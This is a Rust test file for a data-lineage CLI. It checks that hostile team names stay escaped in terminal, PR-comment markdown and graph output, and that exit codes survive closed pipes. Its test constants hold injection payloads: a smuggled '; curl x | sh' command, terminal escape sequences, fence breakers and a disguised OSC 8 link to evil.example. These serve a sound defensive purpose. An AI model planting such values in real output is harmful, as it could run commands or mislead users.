//! Output that names cannot subvert, and exit statuses that survive closed pipes. The hostile
//! names are written straight into the store, as a store filled by an older, less strict sync
//! (or by anyone who can write the file) would hold them: escaping happens at output.

use std::process::{Output, Stdio};

use super::support::{World, tools_present};
use crate::common::{code, stderr, stdout};

/// A team name that, printed raw, closes a markdown fence, starts a shell command on its own
/// line, clears the terminal, and ends a Mermaid label.
const TEAM: &str = "bi\n```\n; curl x | sh #\u{1b}[2J\"]) -->";
/// The same name as a POSIX shell word.
const TEAM_SHELL: &str = "$'bi\\n```\\n; curl x | sh #\\x1b[2J\"]) -->'";
/// An OSC 8 hyperlink that shows "click" and points elsewhere.
const PURPOSE: &str = "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\";

/// Registers two more consumers of `marts.orders` besides team-bi: the hostile team, and
/// `team_bi`, which a lossy graph id would merge with `team-bi`. A bi asset gets a hostile node
/// name too.
fn hostile_world() -> World {
    let w = World::new();
    let db = w.db();
    for (team, purpose) in [(TEAM, PURPOSE), ("team_bi", "ok")] {
        let n = db
            .execute(
                "INSERT INTO consumers (asset, project, team, source, columns_json, \
                 all_columns_reason, purpose, contact, retired, created_at, updated_at) \
                 SELECT asset, project, ?1, source, columns_json, all_columns_reason, ?2, contact, \
                 0, created_at, updated_at FROM consumers \
                 WHERE team = 'team-bi' AND asset = 'marts.orders' AND retired = 0 LIMIT 1",
                [team, purpose],
            )
            .expect("insert consumer");
        assert_eq!(n, 1);
    }
    let n = db
        .execute(
            "UPDATE assets SET node = ?1 WHERE key = (SELECT min(key) FROM assets WHERE project = 'bi')",
            [TEAM],
        )
        .expect("rename node");
    assert_eq!(n, 1);
    w
}

/// Everything a person would see: no escape sequence reaches the terminal, and no name starts a
/// line of its own.
fn assert_terminal_safe(what: &str, o: &Output) {
    for (stream, text) in [("stdout", stdout(o)), ("stderr", stderr(o))] {
        assert!(
            !text.contains('\u{1b}'),
            "{what}: raw escape on {stream}:\n{text}"
        );
        assert!(
            !text.lines().any(|l| l.trim_start().starts_with("; curl")
                || l.trim() == "```"
                || l.trim_start().starts_with("#\u{1b}")),
            "{what}: a name broke a line on {stream}:\n{text}"
        );
    }
}

#[test]
fn hostile_names_are_escaped_in_every_human_output() {
    if !tools_present() {
        return;
    }
    let w = hostile_world();
    let o = w.run(
        &w.shop,
        &["impact", "--base", "main", "--propose", "--require-acks"],
    );
    assert_eq!(code(&o), 1, "{}{}", stdout(&o), stderr(&o));
    assert_terminal_safe("impact", &o);
    let out = stdout(&o);
    assert!(out.contains("bi\\n```\\n; curl x | sh #\\x1b[2J"), "{out}");
    let command = out
        .lines()
        .find(|l| l.contains("--team $'"))
        .unwrap_or_else(|| panic!("no quoted ack command:\n{out}"));
    assert!(
        command.contains(&format!("--team {TEAM_SHELL} --approve")),
        "{command}"
    );

    for args in [
        &["consumers", "marts.orders"][..],
        &["assets"],
        &["proposals", "list"],
        &["verify"],
        &["status"],
    ] {
        let o = w.run(&w.shop, args);
        assert!(code(&o) < 2, "{args:?}: {}{}", stdout(&o), stderr(&o));
        assert_terminal_safe(&args.join(" "), &o);
    }
    let o = w.run(&w.shop, &["consumers", "marts.orders"]);
    assert!(
        stdout(&o).contains("\\x1b]8;;https://evil.example"),
        "{}",
        stdout(&o)
    );
    let list = w.run(&w.shop, &["proposals", "list", "--format", "json"]);
    let id = super::support::json(&list)["proposals"][0]["id"]
        .as_str()
        .expect("a proposal")
        .to_string();
    let o = w.run(&w.shop, &["proposals", "show", &id]);
    assert_terminal_safe("proposals show", &o);
}

/// The fenced block of `sh` commands in a PR comment: its lines, between an opening fence and
/// the first line that closes it.
fn sh_block(markdown: &str) -> Vec<&str> {
    let mut lines = markdown.lines();
    let open = lines
        .by_ref()
        .find(|l| l.starts_with("```") && l.trim_start_matches('`') == "sh")
        .unwrap_or_else(|| panic!("no sh block:\n{markdown}"));
    let fence = open.len() - 2;
    lines
        .take_while(|l| {
            let run = l.chars().take_while(|c| *c == '`').count();
            !(run >= fence && l[run..].trim().is_empty())
        })
        .collect()
}

#[test]
fn a_team_name_cannot_break_out_of_the_pr_comment() {
    if !tools_present() {
        return;
    }
    let w = hostile_world();
    let o = w.run(
        &w.shop,
        &[
            "impact",
            "--base",
            "main",
            "--propose",
            "--format",
            "markdown",
        ],
    );
    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    let md = stdout(&o);
    assert!(!md.contains('\u{1b}'), "{md}");
    let block = sh_block(&md);
    assert!(
        block.len() >= 6,
        "three teams, two lines each: {block:?}\n{md}"
    );
    for line in &block {
        assert!(
            line.starts_with("# ") || line.starts_with("tessera ack "),
            "a line of the sh block is neither a comment nor an ack command: {line:?}\n{md}"
        );
    }
    assert!(
        block
            .iter()
            .any(|l| l.ends_with(&format!("--team {TEAM_SHELL} --approve"))),
        "{block:?}"
    );
    // Outside the block, the name stays inside its code span or escaped text.
    assert!(!md.lines().any(|l| l.starts_with("; curl")), "{md}");
}

/// Node ids on the edges of `marts.orders`, one per consumer team, and each line well formed.
#[test]
fn graph_labels_are_escaped_and_ids_never_collide() {
    if !tools_present() {
        return;
    }
    let w = hostile_world();
    let o = w.run(&w.shop, &["graph", "--format", "mermaid"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let mermaid = stdout(&o);
    assert_terminal_safe("graph", &o);
    let mut teams: Vec<&str> = Vec::new();
    for line in mermaid.lines().skip(1) {
        let t = line.trim_start();
        assert!(
            t.starts_with("subgraph ") || t == "end" || t.contains("[(\"") || t.contains(" -->|\""),
            "a label broke the line structure: {line:?}\n{mermaid}"
        );
        // Labels sit in quotes; a quote inside one would end it early.
        assert_eq!(line.matches('"').count() % 2, 0, "{line}");
        if let Some((_, rest)) = line.split_once("| ")
            && line.contains("asset")
            && let Some((id, _)) = rest.split_once("([")
        {
            teams.push(id);
        }
    }
    teams.sort_unstable();
    teams.dedup();
    assert!(
        teams.len() >= 3,
        "team-bi, team_bi and the hostile team: {teams:?}\n{mermaid}"
    );

    let o = w.run(&w.shop, &["graph", "--format", "dot"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let dot = stdout(&o);
    assert_terminal_safe("graph --format dot", &o);
    let mut boxes: Vec<&str> = dot
        .lines()
        .filter(|l| l.contains("[shape=box"))
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    boxes.sort_unstable();
    boxes.dedup();
    assert!(boxes.len() >= 3, "{dot}");
    assert!(
        dot.contains(r#"label="bi\\n```\\n; curl x | sh #\\x1b[2J\"]) -->""#),
        "{dot}"
    );
}

/// The built binary with the world's environment, for stdio a test wires itself.
fn std_command(w: &World, args: &[&str]) -> std::process::Command {
    let cmd = w.cmd(&w.shop);
    let mut std = std::process::Command::new(cmd.get_program());
    std.args(cmd.get_args()).args(args);
    if let Some(dir) = cmd.get_current_dir() {
        std.current_dir(dir);
    }
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => std.env(k, v),
            None => std.env_remove(k),
        };
    }
    std
}

/// A pipe whose reader is already gone: every write to it fails with EPIPE.
fn closed_pipe() -> std::io::PipeWriter {
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    writer
}

#[test]
fn a_closed_stdout_keeps_the_gates_exit_status() {
    if !tools_present() {
        return;
    }
    let w = World::new();
    w.propose_id();
    for format in ["human", "json", "markdown"] {
        let status = std_command(
            &w,
            &[
                "impact",
                "--base",
                "main",
                "--require-acks",
                "--format",
                format,
            ],
        )
        .stdout(closed_pipe())
        .stderr(Stdio::null())
        .status()
        .expect("runs");
        assert_eq!(
            status.code(),
            Some(1),
            "the blocked gate must exit 1 even when nobody reads stdout ({format})"
        );
    }
    // A command that succeeds stays a success: the closed pipe is not an error.
    let status = std_command(&w, &["assets"])
        .stdout(closed_pipe())
        .status()
        .expect("runs");
    assert_eq!(status.code(), Some(0));
}

#[test]
fn a_closed_stderr_never_panics() {
    if !tools_present() {
        return;
    }
    let w = World::new();
    // An error, a warning and a normal run, each with stderr a pipe nobody reads.
    for (args, want) in [
        (&["consumers", "no.such.asset"][..], 2),
        (&["impact", "--base", "main", "--require-acks"], 1),
        (&["--store", "sqlite:/nonexistent/dir/x.db", "assets"], 2),
    ] {
        let o = std_command(&w, args)
            .stdout(Stdio::piped())
            .stderr(closed_pipe())
            .output()
            .expect("runs");
        assert_eq!(
            o.status.code(),
            Some(want),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stdout)
        );
    }
}

#[test]
fn dash_as_output_path_is_stdout() {
    if !tools_present() {
        return;
    }
    let w = World::new();
    let o = w.run(&w.shop, &["signers", "export", "-o", "-"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(stdout(&o).contains("bo@example.com"), "{}", stdout(&o));
    assert!(
        !w.shop.path().join("-").exists(),
        "a file named `-` was written"
    );
}
